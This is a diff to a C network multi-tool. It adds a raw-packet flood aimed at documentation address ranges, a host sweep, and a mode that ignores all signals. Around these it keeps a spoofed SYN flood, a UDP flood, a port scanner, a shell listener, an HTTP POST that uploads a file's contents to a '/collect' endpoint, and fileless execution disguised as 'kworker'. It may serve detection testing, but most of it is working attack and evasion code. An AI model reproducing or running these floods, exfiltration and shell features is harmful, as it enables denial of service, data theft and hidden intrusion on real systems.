@@ -36,7 +36,8 @@ static int resolve(const char *server, const char *name, char *ip) {
 
 static const char *server(void) { static char s[64] = "127.0.0.1"; FILE *f = fopen("/etc/resolv.conf", "r"); char line[256];
   while (f && fgets(line, sizeof line, f)) if (sscanf(line, "nameserver %63s", s) == 1) break;
-  if (f) fclose(f); return s; }
+  if (f) fclose(f);
+  return s; }
 
 static int dial(const char *host, int port) {
   char ip[64]; if (inet_addr(host) == INADDR_NONE) { if (resolve(server(), host, ip)) return -1; } else snprintf(ip, sizeof ip, "%s", host);
@@ -65,6 +66,17 @@ static void synflood(const char *ip, int port, double seconds) {
     p.ip.saddr = htonl(0xac110002); p.ip.daddr = a.sin_addr.s_addr; p.tcp.source = htons(1024 + i % 60000); p.tcp.dest = htons(port); p.tcp.syn = 1; p.tcp.doff = 5; p.tcp.window = htons(512); p.tcp.seq = i;
     p.ip.check = sum(&p.ip, 20); sendto(s, &p, sizeof p, 0, (void *)&a, sizeof a); if (i % 50 == 0) usleep(1000); } }
 
+/* TCP, UDP and ICMP to ever new ports of the documentation ranges, as fast as it goes: no table holds them all. */
+static void packetflood(double seconds) {
+  int s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW); if (s < 0) { perror("raw socket"); exit(1); }
+  struct { struct iphdr ip; unsigned char body[44]; } __attribute__((packed)) p; double end = now() + seconds; unsigned r = 1;
+  const unsigned char protocols[] = {IPPROTO_TCP, IPPROTO_UDP, IPPROTO_ICMP};
+  while (now() < end) for (int i = 0; i < 64; i++) { r = r * 1664525 + 1013904223; memset(&p, 0, sizeof p);
+    p.ip.version = 4; p.ip.ihl = 5; p.ip.ttl = 64; p.ip.protocol = protocols[i % 3]; p.ip.tot_len = htons(sizeof p); p.ip.daddr = htonl((r & 256 ? 0xc6336400 : 0xcb007100) | (r >> 24));
+    unsigned short source = htons(1024 + (r >> 4) % 60000), port = htons(1 + (r >> 9) % 65000), length = htons(sizeof p.body); memcpy(p.body, &source, 2); memcpy(p.body + 2, &port, 2);
+    if (p.ip.protocol == IPPROTO_TCP) { p.body[12] = 5 << 4; p.body[13] = 2; } else if (p.ip.protocol == IPPROTO_UDP) memcpy(p.body + 4, &length, 2); else { p.body[0] = 8; p.body[1] = 0; }
+    struct sockaddr_in a = {.sin_family = AF_INET, .sin_addr.s_addr = p.ip.daddr}; sendto(s, &p, sizeof p, 0, (void *)&a, sizeof a); } }
+
 static void serve(int port, const char *shell) {
   int l = socket(AF_INET, SOCK_STREAM, 0), one = 1; setsockopt(l, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one); struct sockaddr_in a = at("0.0.0.0", port);
   if (bind(l, (void *)&a, sizeof a) || listen(l, 4)) { perror("listen"); exit(1); }
@@ -81,6 +93,9 @@ int main(int argc, char **v) {
     n = snprintf(head, sizeof head, "POST /collect HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\n\r\n", v[2], n) + 0 * n; send(s, head, n, MSG_NOSIGNAL | MSG_MORE); lseek(f, 0, SEEK_SET); n = read(f, b, sizeof b); say(s, b, n); close(s); }
   else if (IS("get", 4)) { int s = dial(v[2], atoi(v[3])), n; if (s < 0) return 1; n = snprintf((char *)b, sizeof b, "GET %s HTTP/1.0\r\nHost: %s\r\n\r\n", v[4], v[2]); send(s, b, n, MSG_NOSIGNAL); while ((n = read(s, b, sizeof b)) > 0) (void)!write(1, b, n); }
   else if (IS("scan", 4)) for (int p = atoi(v[3]); p <= atoi(v[4]); p++) { int s = dial(v[2], p); if (s >= 0) close(s); }
+  else if (IS("sweep", 5)) for (int h = atoi(v[3]); h <= atoi(v[4]); h++) { snprintf(ip, sizeof ip, "%.11s.%d", v[2], h & 255); int s = dial(ip, atoi(v[5])); if (s >= 0) close(s); }
+  else if (IS("packetflood", 2)) packetflood(atof(v[2]));
+  else if (IS("stay", 1)) { for (int i = 1; i < 32; i++) signal(i, SIG_IGN); for (;;) pause(); }
   else if (IS("synflood", 4)) synflood(v[2], atoi(v[3]), atof(v[4]));
   else if (IS("udpflood", 4)) { int s = socket(AF_INET, SOCK_DGRAM, 0); struct sockaddr_in a = at(v[2], atoi(v[3])); double end = now() + atof(v[4]); memset(b, 'x', 512); for (unsigned i = 0; now() < end; i++) { sendto(s, b, 512, 0, (void *)&a, sizeof a); if (i % 50 == 0) usleep(1000); } }
   else if (IS("memfd", 2)) { int in = open(v[2], O_RDONLY), m = memfd_create("kworker", 0), n; while ((n = read(in, b, sizeof b)) > 0) (void)!write(m, b, n); char *none[] = {0}; fexecve(m, v + 2, none); perror("memfd"); return 1; }
